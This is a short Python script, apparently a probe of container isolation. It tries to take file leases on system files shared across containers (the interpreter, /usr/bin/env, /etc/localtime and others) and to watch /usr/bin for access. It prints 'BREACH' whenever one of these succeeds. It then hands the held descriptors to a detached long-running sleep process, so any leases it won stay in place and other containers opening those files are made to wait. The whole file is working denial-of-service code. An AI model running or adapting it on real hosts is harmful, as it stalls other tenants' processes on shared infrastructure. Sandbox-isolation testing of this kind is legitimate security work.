# takes leases on files that all containers share, so that whoever opens them must wait
# remark: processes
# ruff: noqa
import fcntl, os, subprocess, sys

held = []
for path in ("/usr/bin/env", sys.executable, os.__file__, "/etc/localtime", "/usr/bin/true"):
    for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
        try:
            held.append(os.open(path, os.O_RDONLY))
            fcntl.fcntl(held[-1], fcntl.F_SETLEASE, kind)
            print("BREACH:", path)
        except OSError:
            pass
try:
    held.append(os.open("/usr/bin", os.O_RDONLY))
    fcntl.fcntl(held[-1], fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
    print("BREACH: notify")
except OSError:
    pass
subprocess.Popen(["sleep", "1000"], start_new_session=True, pass_fds=held)
